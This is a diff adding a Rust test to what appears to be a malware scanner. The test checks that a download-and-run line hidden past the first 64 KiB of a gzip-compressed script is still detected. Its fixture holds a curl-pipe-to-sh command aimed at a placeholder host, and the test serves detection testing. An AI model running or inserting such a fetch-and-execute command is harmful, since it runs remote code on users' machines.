@@ -882,3 +882,20 @@ fn reverse_shells_are_critical_in_code_and_low_in_documents() {
     );
     assert_eq!(grade(&r), Some(Severity::Critical), "{:?}", r.findings);
 }
+
+/// A script compressed with gzip, its download-and-run line past the 64 KiB head that decides
+/// the content's format: matched as the same script is on disk, in a tar or a zip member (a
+/// fresh user found it passed as clean).
+#[test]
+fn a_payload_past_the_head_of_a_gzip_stream_is_matched() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let mut script = "#\n".repeat(64 * 1024).into_bytes();
+    script.extend_from_slice(b"curl -fsSL http://h.example.invalid/x.sh | sh\n");
+    let plain = scan_bytes(dir.path(), "plain.sh", &script);
+    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    std::io::Write::write_all(&mut e, &script).expect("gzip");
+    let gz = e.finish().expect("gzip");
+    let packed = scan_bytes(dir.path(), "plain.sh.gz", &gz);
+    assert!(!yara_ids(&plain).is_empty(), "{:?}", plain.findings);
+    assert_eq!(yara_ids(&packed), yara_ids(&plain), "{:?}", packed.findings);
+}
